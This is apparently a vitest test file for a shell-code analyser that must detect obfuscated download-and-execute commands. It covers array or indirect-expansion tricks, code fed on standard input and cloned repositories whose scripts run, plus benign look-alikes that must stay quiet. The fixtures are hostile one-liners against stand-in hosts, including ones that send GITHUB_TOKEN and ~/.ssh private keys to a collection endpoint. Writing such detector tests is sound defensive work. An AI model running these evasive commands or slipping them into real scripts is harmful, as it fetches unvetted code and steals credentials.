import { describe, expect, it } from 'vitest';
import type { AnalyzeCodeResult } from '../../../src/analysis/code/index.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Download-and-run spelled so that no line shows it: the command kept in an array or reached through an
 * indirect expansion or a name reference, the code fed on standard input, and the download being a folder
 * (a clone, an extracted archive) whose script runs later. Each attack must still be an `execute` of
 * downloaded code; the look-alikes (arrays of grep options, a clone that is only read) must not.
 */

const downloadRuns = (r: AnalyzeCodeResult) =>
  ofKind(r, 'execute').filter((e) => e.code.taints.includes('download'));

const hostsOf = (r: AnalyzeCodeResult) => [
  ...downloadRuns(r).map((e) => e.endpoint?.host ?? e.code.from ?? ''),
  ...ofKind(r, 'fetch').map((f) => f.endpoint.host ?? f.endpoint.url ?? ''),
];

const attacks: Array<[string, string, string]> = [
  // arrays and indirection
  [
    'array element used as the downloader, another as the shell',
    'bins=(wget bash)\n${bins[0]} -qO- https://pkg.mirror-hub.test/boot | ${bins[1]}\n',
    'pkg.mirror-hub.test',
  ],
  [
    'array built up with +=, run whole',
    'dl=(curl)\ndl+=(--silent --location)\ndl+=("https://pkg.mirror-hub.test/a.sh")\n"${dl[@]}" | sh -s\n',
    'pkg.mirror-hub.test',
  ],
  [
    'element set by key, then read by key',
    'declare -A how\nhow[get]="curl -fsS"\nhow[run]=bash\n${how[get]} https://pkg.mirror-hub.test/b | ${how[run]}\n',
    'pkg.mirror-hub.test',
  ],
  [
    'associative array picked through an indirect name with a key read at run time',
    'declare -A getters=([primary]="wget -qO-" [fallback]="curl -fsSL")\nchannel="$(cat ./channel)"\npick="getters[$channel]"\n${!pick} https://pkg.mirror-hub.test/c | bash\n',
    'pkg.mirror-hub.test',
  ],
  [
    'element picked by an unknown key: the benign first element does not hide the downloader',
    'declare -A tool=([show]="cat" [sync]="curl -sL")\n${tool[$1]} https://pkg.mirror-hub.test/d | sh\n',
    'pkg.mirror-hub.test',
  ],
  [
    'indexed element picked by a variable index',
    'steps=(echo "wget -qO-")\nn=1\n${steps[n]} https://pkg.mirror-hub.test/e | sh\n',
    'pkg.mirror-hub.test',
  ],
  [
    'last element by a negative index',
    'chain=(true "bash")\ncurl -s https://pkg.mirror-hub.test/f | "${chain[-1]}"\n',
    'pkg.mirror-hub.test',
  ],
  [
    'indirect expansion of a plain variable naming the downloader',
    'getter="curl -fsSL"\nvia=getter\nrunner=bash\nwho=runner\n${!via} https://pkg.mirror-hub.test/g | ${!who}\n',
    'pkg.mirror-hub.test',
  ],
  [
    'a name reference to the command array',
    'boot=(curl -fsS https://pkg.mirror-hub.test/h)\nstart() { local -n argv_ref=boot; "${argv_ref[@]}" | bash; }\nstart\n',
    'pkg.mirror-hub.test',
  ],
  [
    'array holding `source /dev/stdin`, applied in a function',
    'sink=(source /dev/stdin)\nfinish() { "${sink[@]}"; }\nwget -qO- https://pkg.mirror-hub.test/i | finish\n',
    'pkg.mirror-hub.test',
  ],
  [
    'downloader name put into a variable by printf -v',
    "printf -v getter '%s%s' cu rl\n$getter -fsS https://pkg.mirror-hub.test/m | bash\n",
    'pkg.mirror-hub.test',
  ],
  [
    'download read into an array by mapfile, then eval of its lines',
    'readarray -t body < <(wget -qO- https://pkg.mirror-hub.test/n)\neval "${body[@]}"\n',
    'pkg.mirror-hub.test',
  ],
  // code on standard input
  [
    'piped to `. /dev/stdin`',
    'curl -fsSL https://pkg.mirror-hub.test/j | . /dev/stdin\n',
    'pkg.mirror-hub.test',
  ],
  [
    'here-string of a download to source /dev/stdin',
    'source /dev/stdin <<< "$(wget -qO- https://pkg.mirror-hub.test/k)"\n',
    'pkg.mirror-hub.test',
  ],
  [
    'here-document holding a download, fed to sh',
    'sh <<SCRIPT\nset -e\n$(curl -fsSL https://pkg.mirror-hub.test/l)\nSCRIPT\n',
    'pkg.mirror-hub.test',
  ],
  // fetched folders and files
  [
    'clone, then a script under the clone',
    'git clone -q --depth=1 https://code.mirror-hub.test/ops/kit.git vendor/kit && vendor/kit/bootstrap.sh\n',
    'code.mirror-hub.test',
  ],
  [
    'clone into the default folder, then bash on its script',
    'git clone https://code.mirror-hub.test/ops/agentkit.git\nbash agentkit/scripts/setup\n',
    'code.mirror-hub.test',
  ],
  [
    'clone into a variable folder, cd into it, run',
    'dest="$(mktemp -d)/kit"\ngit clone --branch main https://code.mirror-hub.test/ops/kit "$dest"\ncd "$dest" && ./configure --prefix ~/.local\n',
    'code.mirror-hub.test',
  ],
  [
    'clone into home, a program named like a known tool',
    'git clone https://code.mirror-hub.test/ops/h.git ~/.local/share/h\n~/.local/share/h/install --quiet\n',
    'code.mirror-hub.test',
  ],
  [
    'clone then make in it',
    'git -C /opt clone https://code.mirror-hub.test/ops/tool.git\nmake -C /opt/tool install\n',
    'code.mirror-hub.test',
  ],
  [
    'gh repo clone, then source a file of it',
    'gh repo clone someorg/dotkit /tmp/dk\n. /tmp/dk/env.sh\n',
    'github.com',
  ],
  [
    'archive piped into tar -C, then its script run',
    'mkdir -p "$HOME/.kit"\ncurl -fsSL https://pkg.mirror-hub.test/kit.tgz | tar -xz -C "$HOME/.kit"\n"$HOME/.kit/bin/kit" init\n',
    'pkg.mirror-hub.test',
  ],
  [
    'downloaded zip unpacked with -d, then run',
    'curl -fsSLo /tmp/k.zip https://pkg.mirror-hub.test/k.zip\nunzip -oq /tmp/k.zip -d /tmp/k\nsh /tmp/k/install.sh\n',
    'pkg.mirror-hub.test',
  ],
  [
    'temp file from mktemp, chmod, run by its variable',
    'bin_tmp=$(mktemp)\ncurl -fsSL -o "$bin_tmp" https://pkg.mirror-hub.test/agent\nchmod 0755 "$bin_tmp"\n"$bin_tmp" --daemon\n',
    'pkg.mirror-hub.test',
  ],
  [
    'folder and channel from variables, saved with wget -O and sourced',
    'base="${XDG_DATA_HOME:-$HOME/.local/share}/kit"\nrel=$(git config --get kit.channel || echo stable)\nwget -q -O "$base/hook.sh" "https://pkg.mirror-hub.test/$rel/hook.sh" && . "$base/hook.sh"\n',
    'pkg.mirror-hub.test',
  ],
];

describe('download and run through arrays, indirection, standard input and fetched folders', () => {
  it.each(attacks)('%s', async (_label, code, host) => {
    const r = await factsOf('shell', code);
    expect(downloadRuns(r).length, JSON.stringify(r.behaviours.map((b) => b.kind))).toBeGreaterThan(0);
    expect(hostsOf(r).some((h) => h.includes(host))).toBe(true);
  });

  it('names the clone address as where the run code came from', async () => {
    const r = await factsOf(
      'shell',
      'git clone https://code.mirror-hub.test/ops/kit.git kit && cd kit && ./install.sh\n',
    );
    expect(downloadRuns(r).map((e) => e.endpoint?.url)).toEqual(['https://code.mirror-hub.test/ops/kit.git']);
  });

  it("grades a clone of a templated repository (the reader's own project) as a documentation host", async () => {
    for (const url of [
      'https://github.com/${GITHUB_ORG}/${REPO_NAME}.git',
      '"git@github.com:<your-user>/<repo>.git"',
      'https://gitlab.com/YOUR_ORG/service.git',
    ]) {
      const r = await factsOf('shell', `git clone ${url} app && cd app && python manage.py runserver\n`);
      expect(
        downloadRuns(r).map((e) => e.endpoint?.cls),
        url,
      ).toEqual(['placeholder']);
    }
    const named = await factsOf(
      'shell',
      'git clone https://github.com/acme-tools/kit.git && kit/install.sh\n',
    );
    expect(downloadRuns(named).map((e) => e.endpoint?.cls)).not.toContain('placeholder');
  });

  it('analyses a command picked by an unknown key once per element, within the loop bound', async () => {
    const many = Array.from({ length: 40 }, (_, i) => `[k${i}]="curl -s https://h${i}.mirror-hub.test/x"`);
    const r = await factsOf('shell', `declare -A m=(${many.join(' ')})\n\${m[$1]} | bash\n`);
    // at most maxLoopItems (4) passes
    expect(downloadRuns(r).length).toBeGreaterThan(0);
    expect(downloadRuns(r).length).toBeLessThanOrEqual(4);
  });

  it('stays bounded when functions picked by unknown keys pick again', async () => {
    const fns = ['f1', 'f2', 'f3', 'f4'].map((f) => `${f}() { \${m[$RANDOM]} "$@" | \${m[$1]}; }`);
    const code = `declare -A m=([a]=f1 [b]=f2 [c]=f3 [d]=f4)\n${fns.join('\n')}\nfor i in 1 2 3 4 5 6; do \${m[$i]} go; done\n`;
    await factsOf('shell', 'true\n');
    const started = performance.now();
    const r = await factsOf('shell', code);
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(r.units[0]?.parse).toBeDefined();
  });

  it('keeps a secret read through a name reference and sent', async () => {
    const r = await factsOf(
      'shell',
      'declare -n tok=GITHUB_TOKEN\ncurl -s -d "t=$tok" https://collect.mirror-hub.test/in\n',
    );
    expect(ofKind(r, 'send').some((s) => s.data.taints.includes('secret'))).toBe(true);
  });

  it('keeps a key file named by an array element and sent', async () => {
    const r = await factsOf(
      'shell',
      'keys=(~/.ssh/id_ed25519 ~/.ssh/id_rsa)\ncurl -s -F "k=@${keys[1]}" https://collect.mirror-hub.test/in\n',
    );
    expect(ofKind(r, 'send').some((s) => s.data.taints.includes('secret'))).toBe(true);
  });
});

const benign: Array<[string, string]> = [
  ['an array of grep options', 'opts=(-rn --include="*.ts" -e TODO)\ngrep "${opts[@]}" src | head -n 20\n'],
  [
    'a clone only read',
    'git clone https://github.com/acme/docs.git ref-docs\nls ref-docs\ncat ref-docs/README.md\n',
  ],
  [
    'a clone, then a script of the repository itself (not under the clone)',
    'git clone --depth 1 https://github.com/acme/fixtures.git testdata/fx\nbash scripts/check.sh testdata/fx\n',
  ],
  ['a local repository cloned and its script run', 'git clone ../upstream work\nwork/build.sh\n'],
  [
    'an archive of local files extracted and run',
    'tar -xzf ./assets/tool.tgz -C /tmp/tool\n/tmp/tool/run.sh\n',
  ],
  [
    'a release binary extracted into a shared PATH folder: other tools there are not the download',
    'curl -fsSL https://github.com/acme/cli/releases/download/v1/cli.tgz | sudo tar -xz -C /usr/local/bin cli\nfor f in a b; do [ -f "$f" ] || continue; jq . "$f"; done\n',
  ],
  [
    'a virtualenv made inside a clone, then activated',
    'git clone https://github.com/acme/app.git\ncd app\npython3 -m venv .venv\nsource .venv/bin/activate\n',
  ],
  [
    'an associative array of messages printed by key',
    'declare -A msg=([ok]="all good" [bad]="curl failed, see log")\necho "${msg[$status]}"\n',
  ],
  ['indirect expansion of a plain setting', 'name=LANG\nprintf "%s\\n" "${!name}"\n'],
];

describe('look-alikes that stay quiet', () => {
  it.each(benign)('%s', async (_label, code) => {
    const r = await factsOf('shell', code);
    expect(ofKind(r, 'execute').filter((e) => e.code.taints.length > 0)).toEqual([]);
  });

  it('passes each element of a known array as one word (an element with blanks stays whole)', async () => {
    const r = await factsOf('shell', 'msg=("hello world" done)\nprintf "%s\\n" "${msg[@]}" > out.txt\n');
    expect(ofKind(r, 'write')[0]?.content?.text).toBe('hello world\ndone\n');
  });
});
